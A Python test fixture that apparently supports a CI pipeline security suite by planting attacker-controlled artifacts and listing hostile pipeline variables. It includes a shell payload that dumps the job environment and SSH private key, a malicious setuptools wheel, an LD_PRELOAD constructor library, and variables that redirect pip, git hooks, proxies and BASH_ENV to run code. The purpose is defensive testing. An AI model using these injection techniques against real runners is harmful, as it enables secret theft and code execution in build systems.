"""What an attacker who may set pipeline (trigger, manual-job) variables brings: issue 17.1/17.2.

`Plant(root)` lays out, under one directory, everything the hostile variables point at: payloads that
write the job's environment and its key file into `markers/` when they run (so a run payload is seen,
and any secret it could read would be found by the canary scan), a hostile `setuptools` wheel for an
attacker's package index, a sitecustomize on a PYTHONPATH, a pip.conf, a tool folder whose in-tree
build backend runs code, a resolver alias file and (where a C compiler exists) an LD_PRELOAD library.
`variables(plant, attacker_url)` is the one set of hostile variables every test replays, all at once.
The planted files stand for what an attacker could bring on a runner another way (an artifact of a
job it steered, a shared /tmp on a shell executor); the variables alone are what it controls here.
"""

from __future__ import annotations

import base64
import hashlib
import shutil
import socket
import subprocess
import threading
import time
import zipfile
from pathlib import Path

# Runs a shell command: writes the environment (which holds the job's secrets if they reached the
# process) and the SSH key file's content to markers/<what>-<pid>.
# The file is named <what>--<job>--<pid>, so a run payload is attributed to the job it ran in.
_PAYLOAD = (
    'f="{m}/{what}--${{CI_JOB_NAME:-none}}--$$"; env > "$f"; cat "$HPC_SSH_PRIVATE_KEY" >> "$f" 2>/dev/null; true'
)
_PY_PAYLOAD = "import subprocess\nsubprocess.run(['sh', '-c', {cmd!r}], check=False)\n"


class Plant:
    """The attacker's files under `root` (world-readable, markers/ world-writable)."""

    def __init__(self, root: Path):
        self.root = Path(root)
        self.markers = self.root / "markers"
        self.markers.mkdir(parents=True)
        self.markers.chmod(0o777)
        self.pythonpath = self._py_dir("pythonpath", ("sitecustomize.py", "usercustomize.py"), "pythonpath")
        self.userbase = self.root / "userbase"
        site = self.userbase / "lib" / "python3.11" / "site-packages"
        site.mkdir(parents=True)
        (site / "usercustomize.py").write_text(self._py("userbase"))
        self.startup = self.root / "startup.py"
        self.startup.write_text(self._py("pythonstartup"))
        self.wheels = self.root / "wheels"
        self.wheels.mkdir()
        self.setuptools_wheel = _hostile_wheel(self.wheels, "setuptools", "999.0", self._py("setuptools"))
        self.pip_conf = self.root / "pip.conf"
        self.pip_conf.write_text(f"[global]\nfind-links = {self.wheels}\nno-index = true\n")
        self.tool_dir = self._tool_dir()
        self.hostaliases = self.root / "hostaliases"
        self.hostaliases.write_text("localhost attacker.invalid\n")
        self.preload = self._preload()

    def cmd(self, what: str) -> str:
        return _PAYLOAD.format(m=self.markers, what=what)

    def _py(self, what: str) -> str:
        return _PY_PAYLOAD.format(cmd=self.cmd(what))

    def _py_dir(self, name: str, files: tuple[str, ...], what: str) -> Path:
        d = self.root / name
        d.mkdir()
        for f in files:
            (d / f).write_text(self._py(what))
        return d

    def _tool_dir(self) -> Path:
        """A folder that looks like the tool (MLOPS_TOOL_DIR) with an in-tree build backend that runs code."""
        d = self.root / "tool"
        (d / "backend").mkdir(parents=True)
        (d / "pyproject.toml").write_text(
            '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["backend"]\n'
            '[project]\nname = "evil"\nversion = "1"\n'
        )
        (d / "backend" / "evil.py").write_text(self._py("tool-dir") + "raise SystemExit(1)\n")
        return d

    def _preload(self) -> Path | None:
        """A shared library whose constructor runs the payload, or None without a C compiler."""
        cc = shutil.which("cc") or shutil.which("gcc")
        if not cc:
            return None
        src = self.root / "preload.c"
        cmd = self.cmd("ld-preload").replace("\\", "\\\\").replace('"', '\\"')
        src.write_text(
            "#include <stdlib.h>\n#include <unistd.h>\n"
            "__attribute__((constructor)) static void run(void) {\n"
            '  const char *argv[] = {"/bin/sh", "-c", "' + cmd + '", 0};\n'
            '  if (getenv("MLOPS_PRELOAD_RAN")) return;\n'
            '  setenv("MLOPS_PRELOAD_RAN", "1", 1);\n'
            '  if (fork() == 0) { unsetenv("LD_PRELOAD"); execv(argv[0], (char *const *)argv); _exit(0); }\n'
            "}\n"
        )
        out = self.root / "libpreload.so"
        subprocess.run([cc, "-shared", "-fPIC", "-o", str(out), str(src)], check=True, capture_output=True)
        return out

    def ran(self, jobs: set[str] | None = None) -> list[str]:
        """The payloads that ran (names of the files in markers/), only those of `jobs` if given."""
        names = sorted(p.name for p in self.markers.iterdir())
        return [n for n in names if jobs is None or (n.split("--") + ["", ""])[1] in jobs]

    def clear(self) -> None:
        """Forget what ran before (one pipeline run per test)."""
        for path in self.markers.iterdir():
            path.unlink()


def _hostile_wheel(dest: Path, name: str, version: str, code: str) -> Path:
    """A py3-none-any wheel of `name` whose package (and a build_meta module, for build isolation) runs `code`."""
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": code,
        f"{name}/build_meta.py": code,
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    files[f"{dist}/RECORD"] = "\n".join([*record, f"{dist}/RECORD,,"]) + "\n"
    wheel = dest / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, text in files.items():
            zf.writestr(path, text)
    return wheel


def variables(plant: Plant, attacker_url: str, attacker_index: str) -> dict[str, str]:
    """Every hostile variable of issue 17.1/17.2 and more of each kind, at once (name -> value).

    attacker_url: an HTTP stand-in that records what reaches it; attacker_index: a package index of the
    attacker's (serving the hostile setuptools). Shell/loader ones (BASH_ENV, LD_PRELOAD, ...) are in
    `shell_variables`: gitlab-ci-local starts its bash with them (GitLab's runner exports them inside
    the job script), so they act before any line of the job there.
    """
    host = attacker_url.split("//", 1)[1].split("/", 1)[0]
    return {
        # code at the first python3
        "PYTHONWARNINGS": "ignore::antigravity.x",
        "BROWSER": f"sh -c '{plant.cmd('browser')}' %s",
        "PYTHONPATH": str(plant.pythonpath),
        "PYTHONSTARTUP": str(plant.startup),
        "PYTHONUSERBASE": str(plant.userbase),
        "PYTHONINSPECT": "1",
        # pip: another index, more links, another config (build isolation runs the index's setuptools)
        "PIP_INDEX_URL": attacker_index,
        "PIP_EXTRA_INDEX_URL": attacker_index,
        "PIP_FIND_LINKS": str(plant.wheels),
        "PIP_CONFIG_FILE": str(plant.pip_conf),
        "PIP_TRUSTED_HOST": host.split(":")[0],
        "PIP_NO_BUILD_ISOLATION": "0",
        "MLOPS_TOOL_DIR": str(plant.tool_dir),
        # git of ours (and the hook any git command would run)
        "GIT_CONFIG_COUNT": "2",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": plant.cmd("git-fsmonitor") + "; false",
        "GIT_CONFIG_KEY_1": "core.hooksPath",
        "GIT_CONFIG_VALUE_1": str(plant.root),
        "GIT_SSH_COMMAND": f"sh -c '{plant.cmd('git-ssh')}'",
        "GIT_DIR": str(plant.root),
        # where secrets and requests go: endpoints, proxies, trust
        "HTTPS_PROXY": attacker_url,
        "HTTP_PROXY": attacker_url,
        "ALL_PROXY": attacker_url,
        "https_proxy": attacker_url,
        "NO_PROXY": "",
        "SSL_CERT_FILE": str(plant.pip_conf),
        "REQUESTS_CA_BUNDLE": str(plant.pip_conf),
        "WANDB_BASE_URL": attacker_url,
        "CI_API_V4_URL": attacker_url + "/api/v4",
        "CI_SERVER_URL": attacker_url,
        "CI_PROJECT_URL": attacker_url,
        # the resolver
        "LOCALDOMAIN": "attacker.invalid",
        "RES_OPTIONS": "ndots:9 attempts:1 timeout:1",
        "HOSTALIASES": str(plant.hostaliases),
        # HOME and temp files
        "HOME": str(plant.root),
        "TMPDIR": str(plant.markers),
        "XDG_CONFIG_HOME": str(plant.root),
    }


def shell_variables(plant: Plant) -> dict[str, str]:
    """The ones that steer a shell or the dynamic loader (tested the way GitLab's runner sets them)."""
    out = {
        "BASH_ENV": f"$({plant.cmd('bash-env')})",
        "ENV": f"$({plant.cmd('env')})",
        "PS4": f"$({plant.cmd('ps4')})",
        "SHELLOPTS": "xtrace",
        "BASHOPTS": "extdebug",
        "PROMPT_COMMAND": plant.cmd("prompt-command"),
        "GCONV_PATH": str(plant.root),
    }
    if plant.preload:
        out["LD_PRELOAD"] = str(plant.preload)
    return out


class TcpRecorder:
    """A TCP stand-in on 127.0.0.1 that records each connection (when, and the first bytes it sends), answers
    with an SSH banner and closes: the cluster a job may log in to, or an attacker's server that must
    receive nothing. Use as a context manager."""

    def __init__(self, banner: bytes = b"SSH-2.0-StandIn\r\n"):
        self.banner, self.connections = banner, []
        self._sock = socket.socket()
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(16)
        self.port = self._sock.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while True:
            try:
                conn, peer = self._sock.accept()
            except OSError:
                return
            at = time.time()
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    conn.sendall(self.banner)
                    data = conn.recv(65536)
                except OSError:
                    pass
                self.connections.append({"peer": peer, "data": data, "at": at})

    def __enter__(self) -> TcpRecorder:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._sock.close()
